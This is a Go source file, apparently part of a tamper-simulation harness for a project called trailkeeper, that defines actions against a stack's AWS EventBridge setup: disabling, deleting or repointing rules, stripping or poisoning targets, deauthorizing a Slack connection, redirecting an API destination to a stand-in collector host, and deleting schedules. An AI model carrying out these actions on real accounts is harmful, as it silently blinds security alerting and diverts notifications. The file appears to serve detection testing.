package tamper

import (
	"context"
	"fmt"
	"maps"

	"trailkeeper/lambda/internal/awsapi"
	"trailkeeper/lambda/internal/simulate/act"
	"trailkeeper/lambda/internal/simulate/stage"
)

// ruleOf is the name of a rule, schedule, connection or API destination of the stack.
func ruleOf(s *stage.Stage, rule string) string { return s.Stack + "-" + rule }

// DisablesRule disables a rule of the stack.
func DisablesRule(rule string) act.Act {
	return call("events", "DisableRule", func(s *stage.Stage) object { return object{"Name": ruleOf(s, rule)} })
}

// targets are those of a rule of the stack.
func targets(ctx context.Context, s *stage.Stage, rule string) ([]object, error) {
	out, err := ask(ctx, s, attack{"events", "ListTargetsByRule", object{"Rule": ruleOf(s, rule)}})
	var all []object
	for _, t := range awsapi.List(out["Targets"]) {
		all = append(all, awsapi.Object(t))
	}
	return all, err
}

// RemovesTargets takes the targets of a rule of the stack away.
func RemovesTargets(rule string) act.Act {
	return calls(func(ctx context.Context, s *stage.Stage) ([]attack, error) {
		all, err := targets(ctx, s, rule)
		var ids []any
		for _, t := range all {
			ids = append(ids, t["Id"])
		}
		return []attack{{"events", "RemoveTargets", object{"Rule": ruleOf(s, rule), "Ids": ids}}}, err
	})
}

// DeletesRule deletes a rule of the stack, whose targets must go first.
func DeletesRule(rule string) act.Act {
	return act.InOrder(RemovesTargets(rule), call("events", "DeleteRule", func(s *stage.Stage) object {
		return object{"Name": ruleOf(s, rule)}
	}))
}

// RepointsRule has a rule of the stack match nothing that happens.
func RepointsRule(rule string) act.Act {
	return call("events", "PutRule", func(s *stage.Stage) object {
		return object{"Name": ruleOf(s, rule), "State": "ENABLED", "EventPattern": `{"source":["nobody"]}`}
	})
}

// PoisonsTarget has EventBridge hand a target of a rule of the stack the same text for every event.
func PoisonsTarget(rule, id string) act.Act {
	return calls(func(ctx context.Context, s *stage.Stage) ([]attack, error) {
		all, err := targets(ctx, s, rule)
		if err != nil {
			return nil, err
		}
		for _, t := range all {
			if t["Id"] == id {
				poisoned := maps.Clone(t)
				delete(poisoned, "InputTransformer")
				poisoned["Input"] = "{}"
				return []attack{{"events", "PutTargets", object{"Rule": ruleOf(s, rule), "Targets": []any{poisoned}}}}, nil
			}
		}
		return nil, fmt.Errorf("the rule %s has no target %s", rule, id)
	})
}

// Deauthorizes deauthorizes the stack's connection, whose secret EventBridge then forgets.
func Deauthorizes() act.Act {
	return call("events", "DeauthorizeConnection", func(s *stage.Stage) object {
		return object{"Name": ruleOf(s, "slack")}
	})
}

// RepointsDestination has one of the stack's API destinations post elsewhere.
func RepointsDestination(name string) act.Act {
	return call("events", "UpdateApiDestination", func(s *stage.Stage) object {
		return object{"Name": ruleOf(s, name), "InvocationEndpoint": "https://collector.example.net/"}
	})
}

// DeletesSchedule deletes a schedule of the stack.
func DeletesSchedule(name string) act.Act {
	return call("scheduler", "DELETE /schedules/{Name}", func(s *stage.Stage) object {
		return object{"Name": ruleOf(s, name)}
	})
}
